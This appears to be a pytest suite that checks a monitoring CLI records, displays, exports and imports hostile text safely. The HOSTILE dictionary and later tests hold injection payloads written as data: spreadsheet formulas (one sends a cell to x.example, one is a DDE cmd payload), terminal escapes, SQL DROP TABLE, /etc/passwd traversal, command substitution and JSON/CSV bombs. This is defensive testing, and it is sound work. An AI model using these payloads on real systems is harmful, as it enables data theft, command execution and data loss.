"""Texts meant to do harm, recorded for real and seen by every command: neutral where they are shown, whole in data."""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import pty
import re
import shutil
import struct
import subprocess
import termios
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest
from cli_store import Answer, command, environment

from instrument import configure, flush, graphql_span, query_span, record_selection, tool_span
from instrument.interchange.csv_table import restored
from instrument.records import QueryRecord
from instrument.store.tables import open_store

Metrics = Callable[..., Answer]

HOSTILE = {
    "formula": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "formula with a plus": "+1+cmd|' /C calc'!A0",
    "formula with a minus": "-2+3",
    "formula with an at": "@SUM(1)*2",
    "formula behind a tab": "\t=1+1",
    "formula behind a return": "\r=1+1",
    "formula neutralised before": "'=1+1",
    "cells": 'a,b;c"d\ne,"f"',
    "escape": "\x1b[2J\x1b]0;title\x07\x1b[31mred",
    "escape of eight bits": "\x9b31m\x90q\x9c",
    "backspaces": "innocent\b\b\b\b\b\b\b\bguilty\x7f",
    "another direction": "\u202egnp.exe\u2066\u200b",
    "line breaks": "one\ntwo\r\nthree\x85four\u2028five",
    "markup": "[red]x[/red] [link=http://x.example]y[/link] [/] :smile: [bold",
    "path": "../../../etc/passwd",
    "path of a device": "/dev/null",
    "null": "a\x00b\x00",
    "half a character": "a\ud800b",
    "SQL": "'; DROP TABLE queries; --",
    "SQL comment": "x' OR 1=1 /* \" $$ */ -- \\",
    "patterns": "%_*?[a-z]{1}$1\\d+",
    "templates": "{{7*7}} ${HOME} `id` $(id) %s %n {0}",
    "JSON": '"}], "queries": [{"x": "\\u0000"',
    "deep JSON": '{"a":[' * 3000,
    "not a number": "NaN",
    "markup of the web": "<script>alert(1)</script><!--",
    "composed": "👩\u200d💻 e\u0301 می\u200cخواهم",
    "blanks": "  \u00a0 ",
}

CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]")
DECORATION = re.compile(r"\x1b\[[0-9;]*m")


def record(directory: Path, texts: list[str], **settings: object) -> None:
    """Record a query with each text wherever a text may be, by the real recorder."""
    configure(directory=directory, **settings)
    for text in texts:
        failure = type(text.replace("\x00", "") or "E", (Exception,), {}) if "\ud800" not in text else ValueError
        record_selection(text, reason=text)
        try:
            with query_span(text, agent=text, **{text: text}) as query:
                query.add_entities(text, "customers")
                query.record_metric(text, 0.5)
                query.record_tokens(1, 2, model=text)
                with tool_span(text), graphql_span(text):
                    pass
                raise failure(text)
        except Exception:
            pass
        with tool_span(text):
            pass
    assert flush()
    configure(directory=directory)


def records(directory: Path) -> list[QueryRecord]:
    with open_store(directory) as tables:
        assert tables.skipped == 0
        return list(tables.records())


@pytest.fixture(scope="session")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("hostile") / "monitoring"
    record(directory, list(HOSTILE.values()), max_input_chars=100_000)
    return directory


@pytest.fixture
def hostile(recorded: Path, tmp_path: Path) -> Path:
    """A store of its own for a test, in the default place."""
    directory = tmp_path / "monitoring"
    shutil.copytree(recorded, directory)
    return directory


def by_input(found: list[QueryRecord]) -> dict[str, QueryRecord]:
    return {each.user_input: each for each in found}


def test_what_is_recorded_is_the_text_itself_everywhere(hostile: Path) -> None:
    found = by_input(records(hostile))
    for name, text in HOSTILE.items():
        kept = text.replace("\ud800", "\ufffd")
        query = found[kept]
        assert query.agent_type == kept, name
        assert query.entities_detected == [kept, "customers"], name
        assert (query.attributes, query.metrics) == ({kept: kept}, {kept: 0.5}), name
        assert [call.name for call in query.calls] == [kept, kept], name
        assert (query.model, query.error_message) == (kept, kept), name
        assert query.selection is not None
        assert (query.selection.selected_agent, query.selection.selection_reason) == (kept, kept), name


SHOWN = [
    ["report"],
    ["stats"],
    ["queries", "--limit", "100"],
    ["doctor"],
    ["config"],
    ["report", "--format", "json"],
    ["report", "--format", "json", "--no-records"],
    ["stats", "--format", "json"],
    ["queries", "--limit", "100", "--format", "json"],
    ["doctor", "--format", "json"],
]


@pytest.mark.parametrize(
    "arguments", [*SHOWN, *(["report", f"--agent={HOSTILE[name]}"] for name in ("escape", "SQL", "markup"))], ids=repr
)
def test_no_command_shows_what_a_terminal_would_obey(metrics: Metrics, hostile: Path, arguments: list[str]) -> None:
    answer = metrics(*arguments)
    assert (answer.code, answer.err) == (0, "")
    assert not CONTROL.search(answer.out)
    if "json" in arguments:
        json.loads(answer.out)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_query_is_shown_whole_and_harmless(metrics: Metrics, hostile: Path, name: str) -> None:
    query = by_input(records(hostile))[HOSTILE[name].replace("\ud800", "\ufffd")]
    answer = metrics("show", query.query_id)
    assert (answer.code, answer.err) == (0, "")
    assert not CONTROL.search(answer.out)
    shown = json.loads(metrics("show", query.query_id, "--format", "json").out)
    assert shown["user_input"] == query.user_input
    assert shown["attributes"] == query.attributes


@pytest.mark.parametrize("name", HOSTILE)
def test_a_filter_is_a_text_and_nothing_else(metrics: Metrics, hostile: Path, name: str) -> None:
    text = HOSTILE[name].replace("\ud800", "\ufffd")
    holding = {other for other in HOSTILE.values() if text.lower() in other.replace("\ud800", "\ufffd").lower()}
    for option, expected in ((f"--contains={text}", len(holding)), (f"--agent={text}", 1)):
        answer = metrics("queries", option, "--format", "json")
        assert answer.code == 0, answer.err
        found = json.loads(answer.out)
        assert len(found) == expected, option
        assert text in [each["user_input"] for each in found]
    assert len(records(hostile)) == len(HOSTILE)


@pytest.mark.parametrize("name", HOSTILE)
def test_an_argument_that_is_refused_is_named_harmlessly(metrics: Metrics, hostile: Path, name: str) -> None:
    text = HOSTILE[name].replace("\x00", "").replace("\ud800", "\udcff")  # as arguments are read
    for arguments in (["show", text], ["report", f"--format={text}"], ["import", text]):
        answer = metrics(*arguments)
        assert answer.code in (0, 1, 2)
        assert not CONTROL.search(answer.out + answer.err)
        assert len(answer.err.splitlines()) <= 1
        assert "Traceback" not in answer.err
        assert "fault of this program" not in answer.err


def test_a_csv_runs_nothing_in_a_spreadsheet_and_still_holds_every_text(metrics: Metrics, hostile: Path) -> None:
    metrics("export", "--output", "out.csv")
    rows = list(csv.DictReader(io.StringIO(Path("out.csv").read_bytes().decode(), newline="")))
    assert len(rows) == len(HOSTILE)
    assert not [cell for row in rows for cell in row.values() if cell[:1] in "=+-@\t\r" and cell]
    assert {restored(row["agent_type"]) for row in rows} == {query.agent_type for query in records(hostile)}
    reported = list(csv.DictReader(io.StringIO(metrics("report", "--format", "csv").out, newline="")))
    assert reported == [{name: row[name] for name in reported[0]} for row in rows]


@pytest.mark.parametrize("format", ["json", "csv", "store", "segment"])
def test_every_text_comes_back_from_an_import(metrics: Metrics, hostile: Path, tmp_path: Path, format: str) -> None:
    if format == "segment":
        [file] = hostile.glob("*/*.jsonl")
    else:
        file = tmp_path / f"out.{format}"
        assert metrics("export", "--format", format, "--output", str(file)).code == 0
    answer = metrics("import", str(file), "--directory", "other")
    assert (answer.code, answer.err) == (0, "")
    before, after = records(hostile), records(tmp_path / "other")
    if format == "csv":
        assert [(each.query_id, each.agent_type, each.entities_detected) for each in after] == [
            (each.query_id, each.agent_type, each.entities_detected) for each in before
        ]
    else:
        assert after == before
    assert sorted(entry.name for entry in tmp_path.iterdir()) == sorted(
        {"monitoring", "other", *([file.name] if format != "segment" else [])}
    )


def test_an_import_takes_no_entry_for_a_place(metrics: Metrics, tmp_path: Path) -> None:
    """Names and ids out of a file never become a path, whatever they look like."""
    (tmp_path / "inner").mkdir()
    entry = {"start_time": "2026-01-02T03:04:05Z", "duration_ms": 1, "success": True}
    ids = [*HOSTILE.values(), "/tmp/x", "..", "2026-01-01", ".compacting"]
    queries = [entry | {"query_id": text, "agent_type": text, "host": text, "process": 1} for text in ids]
    (tmp_path / "inner" / "in.json").write_text(json.dumps({"queries": queries}))
    assert metrics("import", "inner/in.json", "--directory", "inner/store").code == 0
    assert {each.query_id for each in records(tmp_path / "inner/store")} == {
        text.replace("\ud800", "\ufffd") for text in ids
    }
    assert [path.name for path in tmp_path.iterdir()] == ["inner"]
    assert {path.name for path in (tmp_path / "inner/store").iterdir()} <= {
        "2026-01-02",
        ".importing",
        ".compacting",
    }


@pytest.mark.parametrize(
    ("name", "format"),
    [
        ("[ab]*.x", "store"),
        ("[ab]?.x", "json"),
        ("a'b.x", "store"),
        ("a'b.x", "csv"),
        ("-x.x", "json"),
        ("=1.x", "csv"),
        ("[red]x.x", "store"),
        ("a;b$c.x", "json"),
        ("a\x1b[31mb.x", "store"),
        ("ü \n.x", "store"),
    ],
)
def test_the_name_of_a_file_or_store_is_a_name_and_nothing_else(
    metrics: Metrics, hostile: Path, tmp_path: Path, name: str, format: str
) -> None:
    """It is no pattern, no option, no SQL and no markup; other files that such a pattern would match are left alone."""
    assert metrics("export", "--output", f"./{name}", "--format", format).code == 0
    (tmp_path / "a.x").write_text("innocent")
    answer = metrics("import", f"./{name}", "--directory", f"store {name}")
    assert (answer.code, answer.err) == (0, "")
    assert not CONTROL.search(answer.out)
    assert len(records(tmp_path / f"store {name}")) == len(HOSTILE)
    for arguments in (["report"], ["doctor"], ["compact"]):
        answer = metrics(*arguments, "--directory", f"store {name}")
        assert not CONTROL.search(answer.out + answer.err)
        assert "fault of this program" not in answer.err


@pytest.mark.parametrize("arguments", [["report"], ["stats"], ["queries", "--limit", "100"]], ids=" ".join)
def test_on_a_terminal_only_our_own_colours_are_escapes(hostile: Path, arguments: list[str]) -> None:
    leader, follower = pty.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 100, 0, 0))
    variables = environment(TERM="xterm-256color")
    running = subprocess.Popen(command(*arguments), env=variables, stdin=follower, stdout=follower, stderr=follower)
    os.close(follower)
    written = b""
    try:
        while block := os.read(leader, 65536):
            written += block
    except OSError:
        pass  # the other side is closed
    os.close(leader)
    assert running.wait(60) == 0
    shown = written.decode().replace("\r\n", "\n")
    assert DECORATION.search(shown)
    assert not CONTROL.search(DECORATION.sub("", shown))
    if arguments[0] == "queries":
        assert "[red]x[/red]" in shown


def test_inputs_of_ten_megabytes_harm_no_other_record(metrics: Metrics, tmp_path: Path) -> None:
    """Whatever the settings allow: a record too large for any reader is left out, counted and said."""
    big = ["x" * 10_000_000, "\x00" * 3_000_000]
    directory = tmp_path / "monitoring"
    for most, texts in ((2000, [*big, "between"]), (20_000_000, [*big, "after"])):
        configure(directory=directory, max_input_chars=most)
        for text in texts:
            with query_span(text, agent="a"):
                pass
        assert flush()
    found = records(directory)
    assert {each.user_input for each in found} == {"x" * 1999 + "…", "\x00" * 1999 + "…", "between", big[0], "after"}
    answer = metrics("report")
    assert (answer.code, answer.err) == (0, "")
    with open_store(directory) as tables:
        [(dropped,)] = tables.rows("SELECT coalesce(sum(list_sum(map_values(dropped)))::BIGINT, 0) FROM health")
    assert dropped == 1
    for format in ("json", "csv", "store"):
        assert metrics("export", "--format", format, "--output", f"out.{format}").code == 0
        assert metrics("import", f"out.{format}", "--directory", f"from {format}").code == 0
        assert len(records(tmp_path / f"from {format}")) == len(found)


@pytest.mark.parametrize(
    "content",
    [
        b"[" * 1_000_000,
        b'{"queries": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
        b'{"queries": [{"query_id": "a", "attributes": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_001 + b"]}",
        b'{"queries": [' + b"{}," * 10_000 + b"{}]}",
        b'{"queries": [{"query_id": "' + b"a" * 10_000_000 + b'"}]}',
        b'{"queries": [' + b"1" * 1_000_000 + b"]}",
        b'{"t":1,"q":"x"}\n' + b'{"t":' + b"[" * 100_000 + b"\n",
        b'{"t":1,"c":' + b"[" * 50_000 + b"]" * 50_000 + b"}\n",
        b'{"t":1,"attributes":' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}\n",
        b"timestamp,query_id\n" + b'"' * 1_000_001 + b"\n",
        b"timestamp,query_id\n" + b"," * 1_000_000 + b"\n",
        b"timestamp,query_id," + b"x," * 100_000 + b"\n1,2\n",
        b"PAR1" + b"\xff" * 100_000 + b"PAR1",
        b"PAR1" + bytes(100) + b"\xff\xff\xff\x7fPAR1",
    ],
    ids=range(14),
)
@pytest.mark.parametrize("as_segment", [False, True])
def test_bombs_are_refused_or_skipped_in_a_line(
    metrics: Metrics, hostile: Path, tmp_path: Path, content: bytes, as_segment: bool
) -> None:
    if as_segment:
        [folder] = hostile.glob("*-*")
        (folder / ("000000-1-00000000.parquet" if content[:4] == b"PAR1" else "000000-1-00000000.jsonl")).write_bytes(
            content
        )
        answer = metrics("report", "--format", "json")
        assert json.loads(answer.out)["report"]["queries"]["total"] == len(HOSTILE)
    else:
        (tmp_path / "bomb").write_bytes(content)
        answer = metrics("import", "bomb")
        with open_store(hostile) as tables:
            assert tables.rows(f"SELECT count(*) FROM queries WHERE started_us > {10**15}") == [(len(HOSTILE),)]
    assert answer.code in (0, 1)
    assert len(answer.err.splitlines()) <= 1
    assert len(answer.err) < 1000
    assert "fault of this program" not in answer.err


def test_a_parquet_of_somebody_elses_is_refused_whatever_its_columns_hold(metrics: Metrics, tmp_path: Path) -> None:
    for number, columns in enumerate(("1 AS t", "'x' AS type, 'y' AS t, [1] AS i, 'z' AS d", 'NULL AS "\'; DROP"')):
        duckdb.sql(f"COPY (SELECT {columns}) TO '{tmp_path}/{number}.parquet'")
        answer = metrics("import", f"{number}.parquet")
        assert (answer.code, answer.out) == (1, "")
        assert len(answer.err.splitlines()) == 1
        assert "fault of this program" not in answer.err
